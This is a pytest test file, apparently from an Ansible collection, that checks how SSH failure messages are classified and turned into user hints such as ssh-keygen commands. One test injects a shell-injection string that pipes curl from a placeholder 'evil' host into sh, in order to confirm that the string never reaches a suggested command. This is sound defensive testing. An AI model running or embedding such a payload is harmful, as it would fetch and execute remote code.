# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""What ssh prints, and whose fault it is."""

from __future__ import annotations

from dataclasses import replace

import pytest
from ansible_collections.compute_desk.supply.plugins.module_utils._text import quoted
from ansible_collections.compute_desk.supply.plugins.plugin_utils._first_contact.known_as import (
    KnownAs,
)
from ansible_collections.compute_desk.supply.plugins.plugin_utils._first_contact.problem import (
    Problem,
)
from ansible_collections.compute_desk.supply.plugins.plugin_utils._first_contact.ssh_failure import (
    Setting,
    Target,
    is_about_host_key,
    judge,
    no_answer,
)
from hypothesis import given

from ...helpers import ANY_TEXT

TARGET = Target(
    Setting("203.0.113.7", "from ansible_host"), Setting("2222", "from ansible_port"), None
)
FAILED = "Failed to connect to the host via ssh: "
CHANGED = """\
@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@
@    WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!     @
@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@
IT IS POSSIBLE THAT SOMEONE IS DOING SOMETHING NASTY!
Someone could be eavesdropping on you right now (man-in-the-middle attack)!
It is also possible that a host key has just been changed.
The fingerprint for the ED25519 key sent by the remote host is
SHA256:y4UmH6ZksxCczj+tTULlVckJ3wgoD8esG4twzLGvSdw.
Please contact your system administrator.
Add correct host key in /home/me/.ssh/known_hosts to get rid of this message.
Offending ED25519 key in /home/me/.ssh/known_hosts:17
"""
REFUSED_IT = """\
  remove with:
  ssh-keygen -f "/home/me/.ssh/known_hosts" -R "i-0a1b2c3d"
Host key for i-0a1b2c3d has changed and you have requested strict checking.
Host key verification failed.
"""
BORE_WITH_IT = """\
Password authentication is disabled to avoid man-in-the-middle attacks.
Keyboard-interactive authentication is disabled to avoid man-in-the-middle attacks.
"""
REVOKED = """\
@       WARNING: REVOKED HOST KEY DETECTED!               @
The ED25519 host key for x is marked as revoked.
ED25519 host key for x was revoked and you have requested strict checking.
Host key verification failed.
"""

# What OpenSSH 7.4 to 9.9 print, the kind, and whether waiting is pointless.
TEXTS = [
    ("ssh: connect to host 203.0.113.7 port 22: Connection refused", "refused", False),
    ("ssh: connect to host ::1 port 22: Connection refused\r\n", "refused", False),
    ("ssh: connect to host 203.0.113.7 port 22: Connection timed out", "timed_out", False),
    ("ssh: connect to host 203.0.113.7 port 22: Operation timed out", "timed_out", False),
    (
        (
            "Connection timed out during banner exchange\r\n"
            "Connection to 203.0.113.7 port 22 timed out\r\n"
        ),
        "timed_out",
        False,
    ),
    ("Timeout, server 203.0.113.7 not responding.", "timed_out", False),
    ("root@203.0.113.7: Permission denied (publickey).", "permission_denied", False),
    ("Permission denied (publickey,gssapi-keyex,password).", "permission_denied", False),
    (
        (
            "Received disconnect from 203.0.113.7 port 22:2: Too many authentication failures\r\n"
            "Disconnected from 203.0.113.7 port 22"
        ),
        "permission_denied",
        False,
    ),
    (
        'Please login as the user "ubuntu" rather than the user "root".\n\n',
        "permission_denied",
        True,
    ),
    (
        ("WARNING: Your password has expired.\nPassword change required but no TTY available."),
        "permission_denied",
        False,
    ),
    (CHANGED + REFUSED_IT, "host_key_changed", True),
    (
        CHANGED + BORE_WITH_IT + "root@203.0.113.7: Permission denied (publickey).",
        "permission_denied",
        False,
    ),
    (CHANGED + BORE_WITH_IT + "Connection closed by 203.0.113.7 port 22", "unreachable", False),
    ("Host key verification failed.", "unreachable", True),
    (
        (
            "No ED25519 host key is known for [203.0.113.7]:2222 and you have requested strict "
            "checking.\r\nHost key verification failed."
        ),
        "unreachable",
        True,
    ),
    (REVOKED, "unreachable", True),
    (
        (
            "kex_exchange_identification: Connection closed by remote host\r\n"
            "Connection closed by 203.0.113.7 port 22"
        ),
        "unreachable",
        False,
    ),
    ("kex_exchange_identification: read: Connection reset by peer", "unreachable", False),
    ("ssh: connect to host 203.0.113.7 port 22: No route to host", "unreachable", False),
    ("ssh: connect to host 203.0.113.7 port 22: Network is unreachable", "unreachable", False),
    (
        "ssh: Could not resolve hostname gpu-1: Name or service not known",
        "unreachable",
        False,
    ),
    (
        (
            "Unable to negotiate with 203.0.113.7 port 22: no matching host key type found. Their "
            "offer: ssh-rsa"
        ),
        "unreachable",
        True,
    ),
    (
        (
            '"System is booting up. Unprivileged users are not permitted to log in yet. Please '
            'come back later. For technical details, see pam_nologin(8)."\n'
        ),
        "unreachable",
        False,
    ),
    ("/home/me/.ssh/config: line 3: Bad configuration option: foo", "unreachable", False),
    ("", "unreachable", False),
]


@pytest.mark.parametrize(("text", "kind", "final"), TEXTS)
def test_each_text_has_its_kind(text: str, kind: str, final: bool) -> None:
    for before in (
        "",
        FAILED,
        FAILED + "Warning: Permanently added 'x' (ED25519) to the list.\r\n",
    ):
        problem = judge(before + text, TARGET)

        assert (problem.kind, problem.final) == (kind, final)
        assert "address 203.0.113.7 from ansible_host, port 2222 from ansible_port" in str(problem)
        assert "user chosen by ssh" in str(problem)


@pytest.mark.parametrize(
    ("banner", "reason", "kind"),
    [
        (
            "ssh: connect to host 10.0.0.1 port 22: Connection refused",
            "root@203.0.113.7: Permission denied (publickey).",
            "permission_denied",
        ),
        (
            "Permission denied (to the unworthy).",
            "Connection timed out during banner exchange",
            "timed_out",
        ),
        (
            CHANGED + REFUSED_IT,
            "root@203.0.113.7: Permission denied (publickey).",
            "permission_denied",
        ),
        (
            "Permission denied (publickey).",
            "ssh: connect to host 203.0.113.7 port 22: Connection refused",
            "refused",
        ),
    ],
)
def test_what_a_banner_says_is_not_the_reason(banner: str, reason: str, kind: str) -> None:
    assert judge(f"{FAILED}{banner}\n{reason}", TARGET).kind == kind


def test_what_ssh_says_for_debugging_is_not_the_reason() -> None:
    text = (
        "OpenSSH_9.2p1 Debian-2, OpenSSL 3.0.19\r\n"
        "root@203.0.113.7: Permission denied (publickey).\r\n"
        "debug1: Connection to 203.0.113.7 port 22 timed out"
    )

    assert judge(FAILED + text, TARGET).kind == "permission_denied"


def test_a_changed_key_says_which_it_is_and_how_the_old_one_goes() -> None:
    text = str(judge(FAILED + CHANGED + REFUSED_IT, TARGET))

    assert (
        "it is now SHA256:y4UmH6ZksxCczj+tTULlVckJ3wgoD8esG4twzLGvSdw, and ssh reports 'Offending "
        "ED25519 key in /home/me/.ssh/known_hosts:17' (tried"
    ) in text
    assert text.endswith("Then remove the old key: ssh-keygen -R '[203.0.113.7]:2222'")


def test_a_changed_key_of_which_ssh_says_no_more_is_told_as_well() -> None:
    what = "@    WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!     @\n"
    problem = judge(FAILED + what + "Host key verification failed.", TARGET)

    assert (problem.kind, problem.final) == ("host_key_changed", True)
    assert "has changed, and ssh does not show the new one (tried" in str(problem)
    assert problem.hint.endswith("ssh-keygen -R '[203.0.113.7]:2222'")


@pytest.mark.parametrize(
    ("target", "end"),
    [
        (Target(), "Then remove the old key from known_hosts."),
        (Target(Setting("gpu-1", "")), "Then remove the old key: ssh-keygen -R gpu-1"),
        (
            Target(Setting("gpu-1", ""), known_as=KnownAs("i-0a1b", "/home/my self/known")),
            "Then remove the old key: ssh-keygen -f '/home/my self/known' -R i-0a1b",
        ),
        (Target(known_as=KnownAs("a\nb")), "Then remove the old key from known_hosts."),
    ],
)
def test_the_old_key_is_removed_by_what_our_settings_say(target: Target, end: str) -> None:
    assert judge(CHANGED + REFUSED_IT, target).hint.endswith(end)


EVIL = "';curl http://evil/x|sh;'"


@pytest.mark.parametrize(
    "line",
    [
        f"Offending ED25519 key in {EVIL}:17",
        f"Host key for {EVIL} has changed and you have requested strict checking.",
        f"ED25519 host key for {EVIL} has changed and you have requested strict checking.",
        f"SHA256:{EVIL}",
        f"The host key for {EVIL} has changed",
    ],
)
def test_no_word_of_the_machine_is_in_a_command(line: str) -> None:
    text = f"{CHANGED}{line}\nHost key verification failed."

    problem = judge(text, TARGET)

    assert problem.kind == "host_key_changed"
    assert problem.hint == judge(CHANGED + REFUSED_IT, TARGET).hint
    assert EVIL.split(";")[1] not in problem.message.replace(quoted(line), "")


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (CHANGED + REFUSED_IT, True),
        (REVOKED, True),
        ("Host key verification failed.", True),
        (CHANGED + BORE_WITH_IT + "root@203.0.113.7: Permission denied (publickey).", False),
        (CHANGED, False),
        ("ssh: connect to host 203.0.113.7 port 22: Connection refused", False),
        ("", False),
    ],
)
def test_a_machine_that_let_us_in_is_not_believed_about_its_key(text: str, expected: bool) -> None:
    assert is_about_host_key(FAILED + text) is expected

    believed = judge(FAILED + text, TARGET)
    not_believed = judge(FAILED + text, TARGET, believe_host_key=False)

    assert "host key" not in not_believed.message
    assert not not_believed.final
    assert (not_believed == believed) is not expected


def test_what_else_it_says_counts_all_the_same() -> None:
    text = FAILED + CHANGED + REFUSED_IT + "Connection closed by 203.0.113.7 port 22"

    assert judge(text, TARGET, believe_host_key=False) == judge(text, TARGET)
    assert judge(text, TARGET).message.startswith("the machine closed the connection")


@pytest.mark.parametrize(
    "line",
    [
        'Load key "/keys/id": error in libcrypto',
        "Warning: Identity file /keys/id not accessible: No such file or directory.",
        "no such identity: /keys/id: No such file or directory",
    ],
)
def test_a_key_that_ssh_could_not_use_is_named(line: str) -> None:
    problem = judge(f"{line}\r\nroot@203.0.113.7: Permission denied (publickey).", TARGET)

    assert line.split(":")[0] in problem.message


def test_the_user_that_the_machine_wants_is_named() -> None:
    problem = judge('Please login as the user "ubuntu" rather than the user "root".\n\n', TARGET)

    assert '"ubuntu"' in problem.message
    assert "ansible_user" in problem.hint


def test_no_answer_is_a_timeout() -> None:
    assert no_answer(29.6, TARGET) == Problem(
        "timed_out",
        "there was no answer within 30 s",
        "Check the address, and that no firewall or security group is in the way. If the machine "
        "may still be booting, raise instance_ready_timeout (timeout in wait_for_instance).",
        tried=str(TARGET),
    )


@pytest.mark.parametrize(
    ("text", "problem"),
    [
        (
            REVOKED,
            Problem(
                "unreachable",
                "its host key is marked as revoked in known_hosts",
                "Do not log in until you know why.",
                final=True,
            ),
        ),
        (
            "Host key verification failed.",
            Problem(
                "unreachable",
                "its host key is not known, and ssh accepts only known ones",
                "Compare its fingerprint and add it to known_hosts, or let ssh accept keys of new "
                "hosts with -o StrictHostKeyChecking=accept-new in ansible_ssh_common_args.",
                final=True,
            ),
        ),
        (
            CHANGED + REFUSED_IT,
            Problem(
                "host_key_changed",
                "its host key has changed; it is now "
                "SHA256:y4UmH6ZksxCczj+tTULlVckJ3wgoD8esG4twzLGvSdw, and ssh reports 'Offending "
                "ED25519 key in /home/me/.ssh/known_hosts:17'",
                "Either the machine was reinstalled, or a different machine answers at this "
                "address: find out which before you log in. Then remove the old key: "
                "ssh-keygen -R '[203.0.113.7]:2222'",
                final=True,
            ),
        ),
        (
            "",
            Problem(
                "unreachable",
                "the connection failed: ssh gave no reason",
                "Try to connect by hand with ssh -v.",
            ),
        ),
        (
            "one thing\nanother\x1b[2J",
            Problem(
                "unreachable",
                "the connection failed: another",
                "Try to connect by hand with ssh -v.",
            ),
        ),
        (
            'Load key "/a": x\nLoad key "/b": x\nPermission denied (publickey).',
            replace(
                judge("Permission denied (publickey).", Target()),
                message="permission denied: the machine answers, but rejects this user; "
                'Load key "/b": x',
            ),
        ),
    ],
)
def test_what_is_said_and_what_to_do_about_it(text: str, problem: Problem) -> None:
    assert judge(FAILED + text, TARGET) == replace(problem, tried=str(TARGET))


def test_settings_are_shown_in_part() -> None:
    long = Setting("a" * 101, "b" * 61)

    assert str(Target(long, None, None, is_ssh=False)) == f"address {'a' * 97}... {'b' * 57}..."
    assert str(Target(Setting("a" * 100, "b" * 60), is_ssh=False)).count(".") == 0


def test_only_the_end_of_a_long_output_is_judged() -> None:
    refused = "ssh: connect to host 203.0.113.7 port 22: Connection refused"
    reason = "root@203.0.113.7: Permission denied (publickey)."

    assert judge(f"{refused}\n" + "x\n" * 20_000, TARGET).kind == "unreachable"
    assert judge("x\n" * 20_000 + reason, TARGET).kind == "permission_denied"
    assert judge("x" * 501 + reason, TARGET).message == f"the connection failed: {'x' * 197}..."


def test_the_sentence_has_what_was_tried_and_the_next_step() -> None:
    problem = Problem("refused", "nothing listens", "Look there.", tried=str(Target()))

    assert str(problem) == (
        "Nothing listens (tried address chosen by ssh, port chosen by ssh, user chosen by ssh). "
        "Look there."
    )


def test_nothing_is_chosen_by_ssh_without_ssh() -> None:
    problem = Problem("timed_out", "no answer", "Look there.", tried=str(Target(is_ssh=False)))

    assert str(problem) == "No answer. Look there."


@given(ANY_TEXT)
def test_any_text_gives_one_line(text: str) -> None:
    said = str(judge(text, TARGET))

    assert said
    assert said.isprintable()
